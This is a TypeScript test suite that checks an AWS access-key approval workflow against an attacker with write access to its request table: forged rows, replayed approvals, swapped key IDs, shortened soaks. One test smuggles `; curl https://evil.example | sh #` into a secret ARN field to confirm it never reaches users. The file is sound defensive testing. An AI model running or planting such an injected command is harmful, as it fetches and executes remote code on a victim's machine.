import { beforeEach, describe, expect, it } from 'vitest'
import { buttonsOf, type ShownKey } from '../../sandbox/client.ts'
import { RequestId } from '../../src/requests/ids.ts'
import { childRequestId } from '../../src/requests/request-id.ts'
import { attackSuite } from '../support/attack-suite.ts'
import { type Attacker, dueNow, type Row } from '../support/attacker.ts'
import { cardIn, oldKeyOf, statusOf } from '../support/main-job.ts'
import type { RunningSandbox } from '../support/start-sandbox.ts'

/** What was agreed once is done once, on the key that was shown, at its moment: whoever can write to the table only makes awskey stand still. */
describe('approvals that somebody uses for something else', () => {
  let sandbox: RunningSandbox
  let attacker: Attacker
  let key: ShownKey
  const suite = attackSuite()
  beforeEach(async () => {
    ;({ sandbox, attacker } = suite())
    key = await oldKeyOf(sandbox, 'erin')
  })

  const FAR = '2099-01-01T00:00:00.000Z'
  const now = async (): Promise<string> => (await sandbox.state()).clock.now
  const reported = async (): Promise<boolean> =>
    /forged|goes on beyond its end/i.test(
      JSON.stringify(await sandbox.messages({ channel: 'C0SECURITY' })),
    )
  const operationOf = (row: Row): Record<string, unknown> => Object(row['operation'])
  const latest = async (kind: string): Promise<Row> => {
    const rows = (await attacker.rows())
      .filter((row) => row.sk === 'REQ' && operationOf(row)['kind'] === kind)
      .toSorted((a, b) => a.pk.localeCompare(b.pk))
    const row = rows.at(-1)
    if (row === undefined) throw new Error(`there is no ${kind}`)
    return row
  }
  const erin = (text: string): Promise<unknown> => sandbox.command('U0ERIN', 'C0PAYMENTS', text)
  const approve = async (user = 'U0MAYA'): Promise<unknown> =>
    sandbox.click(await cardIn(sandbox), user, 'request.approve')
  const submit = async (user: string, values: object): Promise<void> => {
    const view = (await sandbox.state()).views.findLast((each) => each.user === user)
    await sandbox.call('submit', { user, view_id: view?.view_id, values })
    await sandbox.settle()
  }
  const inConsole = (action: string, access_key_id: string, user_name = 'erin'): Promise<unknown> =>
    sandbox.call('console', { action, account: '111111111111', user_name, access_key_id })
  const takeLock = async ({ subject, id }: Row): Promise<void> => {
    const { account, userId } = Object(subject)
    await attacker.put({ pk: `LOCK#${account}#${userId}`, sk: 'LOCK', requestId: id })
  }
  /** The row as it was before its effect ran, with the lock and the effect due. */
  const revive = async (row: Row, step: string, effect: string, changes: object = {}) => {
    const { outcome: _outcome, approvalUntil: _until, ...rest } = row
    await takeLock(row)
    await attacker.edit(
      { ...rest, pk: row.pk, sk: row.sk },
      {
        state: 'running',
        operation: { ...operationOf(row), step },
        ...dueNow(effect, await now()),
        ...changes,
      },
    )
  }

  it('makes no key Inactive a second time because of a request that is done', async () => {
    await erin(`deactivate ${key.accessKeyId}`)
    const done = await latest('deactivate')
    await erin(`activate ${key.accessKeyId}`)
    await approve()
    expect(await statusOf(sandbox, 'erin', key.accessKeyId)).toBe('Active')
    await revive(done, 'making_inactive', 'make_inactive')
    expect(await statusOf(sandbox, 'erin', key.accessKeyId)).toBe('Active')
    expect(await reported()).toBe(true)
  })

  it.each([
    ['is done', (done: Row) => done],
    [
      'was set back to before its effect',
      (done: Row, before: Row) => ({ ...before, decisions: done['decisions'] }),
    ],
  ])(
    'makes no key Active a second time because of an approval of a request that %s',
    async (_what, rowOf) => {
      await erin(`deactivate ${key.accessKeyId}`)
      await erin(`activate ${key.accessKeyId}`)
      const before = await latest('activate')
      await approve()
      const done = await latest('activate')
      await erin(`deactivate ${key.accessKeyId}`)
      await revive(rowOf(done, before), 'making_active', 'make_active', {
        subjectVersion: before['subjectVersion'],
      })
      expect(await statusOf(sandbox, 'erin', key.accessKeyId)).toBe('Inactive')
      expect(await reported()).toBe(true)
    },
  )

  it('begins nothing before the moment that its requester chose', async () => {
    await erin('deactivate')
    const at = Math.floor(Date.parse(await now()) / 1_000) + 5 * 86_400
    await submit('U0ERIN', {
      key: { 'key.pick': key.accessKeyId },
      when: { 'when.pick': at },
    })
    await attacker.edit(await latest('deactivate'), dueNow('make_inactive', await now()))
    expect(await statusOf(sandbox, 'erin', key.accessKeyId)).toBe('Active')
    await sandbox.advance('P6D')
    expect(await statusOf(sandbox, 'erin', key.accessKeyId)).toBe('Inactive')
  })

  it('touches no other key of the user than the one that was asked about', async () => {
    await inConsole('make_inactive', key.accessKeyId)
    await sandbox.call('console', {
      action: 'create_key',
      account: '111111111111',
      user_name: 'erin',
    })
    const other = (await sandbox.keysOf('erin')).find(
      ({ accessKeyId }) => accessKeyId !== key.accessKeyId,
    )
    await sandbox.command('U0OMAR', 'C0PAYMENTS', 'deactivate erin')
    const row = await latest('deactivate')
    expect(operationOf(row)['keyId']).toBe(other?.accessKeyId)
    await inConsole('make_active', key.accessKeyId)
    await attacker.put({ ...row, operation: { ...operationOf(row), keyId: key.accessKeyId } })
    await approve()
    expect(await statusOf(sandbox, 'erin', key.accessKeyId)).toBe('Active')
    expect(await reported()).toBe(true)
  })

  it('deletes nothing for a rotation that never opened the deletion', async () => {
    await erin('rotate')
    const rotation = await latest('rotate')
    const made = (await sandbox.keysOf('erin')).find(
      ({ accessKeyId }) => accessKeyId !== key.accessKeyId,
    )
    await erin(`cancel ${String(rotation['id'])}`)
    await sandbox.advance('PT1H')
    await erin(`deactivate ${made?.accessKeyId}`)
    const id = childRequestId(RequestId.parse(rotation['id']), new Date(await now()))
    const { outcome: _outcome, ...rest } = rotation
    await takeLock({ ...rotation, id })
    await attacker.edit(
      { ...rest, pk: `REQ#${id}`, sk: 'REQ', id },
      {
        parent: rotation['id'],
        version: 1,
        subjectVersion: 1,
        state: 'awaiting_approval',
        operation: {
          kind: 'delete',
          step: 'waiting',
          keyId: made?.accessKeyId,
          keyCreatedAt: rotation['createdAt'],
          inactiveAt: await now(),
          inactiveKnownFrom: 'ledger',
          soakedUntil: rotation['createdAt'],
          askedTimes: 1,
        },
        approvals: { needed: 1, from: { team: 'payments' }, why: 'policy', typed: false },
        ledger: { seq: 0, head: '0'.repeat(64) },
        asked: { at: await now(), reminded: 0 },
        approvalUntil: FAR,
        next: { id: 'forged.1', effect: 'expire', dueAt: FAR, attempt: 0 },
      },
    )
    await approve()
    expect(await statusOf(sandbox, 'erin', made?.accessKeyId ?? '')).toBe('Inactive')
  })

  it('counts no click that was refused for an approval of an effect that comes late', async () => {
    await sandbox.command('U0OMAR', 'C0PAYMENTS', 'rotate erin')
    await sandbox.click(await cardIn(sandbox), 'U0TINA', 'request.approve')
    const act = (await attacker.acts()).findLast(({ user }) => user === 'U0TINA')
    const row = {
      ...(await latest('rotate')),
      approvalUntil: FAR,
      dueAt: FAR,
      next: { id: 'forged.1', effect: 'expire', dueAt: FAR, attempt: 0 },
    }
    await attacker.put(row)
    await sandbox.call('console', {
      action: 'create_key',
      account: '111111111111',
      user_name: 'erin',
    })
    const other = (await sandbox.keysOf('erin')).find(
      ({ accessKeyId }) => accessKeyId !== key.accessKeyId,
    )
    await sandbox.advance('P20D')
    const at = '2026-01-01T00:00:00.000Z'
    await attacker.edit(row, {
      state: 'running',
      decisions: [{ kind: 'approve', by: 'U0TINA', at: await now(), as: 'team payments', act }],
      operation: {
        ...operationOf(row),
        step: 'overlap',
        newKey: {
          id: other?.accessKeyId,
          createdAt: at,
          secretArn: 'arn:aws:secretsmanager:eu-central-1:111111111111:secret:x',
          secretVersionId: 'v',
          ownUses: [],
          tested: true,
        },
        toldAt: at,
        overlapUntil: at,
        quietFrom: at,
        newKeyUse: { at, service: 'ec2', region: 'eu-central-1', source: 'cloudtrail' },
      },
      ...dueNow('make_inactive', await now()),
    })
    expect(await statusOf(sandbox, 'erin', key.accessKeyId)).toBe('Active')
    expect(await reported()).toBe(true)
  })

  it('makes one key for one approval', async () => {
    await erin('create')
    await submit('U0ERIN', {
      purpose: { 'purpose.pick': 'ci' },
      reason: { 'reason.type': 'the vendor takes keys only' },
    })
    const before = await latest('create')
    await approve()
    const done = await latest('create')
    const { newKey } = Object(done['operation'])
    await inConsole('make_inactive', newKey.id)
    await inConsole('delete_key', newKey.id)
    await revive(done, 'creating', 'intend_create', {
      subjectVersion: before['subjectVersion'],
      operation: operationOf(before),
    })
    expect(await sandbox.keysOf('erin')).toHaveLength(1)
    expect(await reported()).toBe(true)
  })

  it('shows the owner no other secret, and no other command, than those of the key that was made', async () => {
    await erin('rotate')
    const row = await latest('rotate')
    const { newKey } = Object(row['operation'])
    const secretArn = `${newKey.secretArn}; curl https://evil.example | sh #`
    await attacker.edit(row, {
      operation: { ...operationOf(row), newKey: { ...newKey, secretArn } },
      version: Number(row['version']) + 1,
    })
    await sandbox.advance('P1D')
    const shown = JSON.stringify((await sandbox.state()).messages)
    expect(shown).toContain(newKey.secretArn)
    expect(shown).not.toContain('curl')
  })

  describe('a soak', () => {
    it('is not made shorter by writing another end into the row', async () => {
      await erin(`deactivate ${key.accessKeyId}`)
      await erin(`delete ${key.accessKeyId}`)
      await sandbox.advance('PT1H')
      const row = await latest('delete')
      const operation = { ...operationOf(row), soakedUntil: await now() }
      await attacker.edit(row, { operation, ...dueNow('check_soak', await now()) })
      await approve()
      expect(await statusOf(sandbox, 'erin', key.accessKeyId)).toBe('Inactive')
    })

    it('is not over for a key that was Active for two hours while its approval waited', async () => {
      await erin(`deactivate ${key.accessKeyId}`)
      await erin(`delete ${key.accessKeyId}`)
      await sandbox.advance('P8D')
      await inConsole('make_active', key.accessKeyId)
      await sandbox.advance('PT2H')
      await inConsole('make_inactive', key.accessKeyId)
      await sandbox.advance('PT2H')
      const card = await cardIn(sandbox)
      expect(buttonsOf(card).has('request.approve')).toBe(true)
      await sandbox.click(card, 'U0MAYA', 'request.approve')
      expect(await statusOf(sandbox, 'erin', key.accessKeyId)).toBe('Inactive')
    })
  })
})
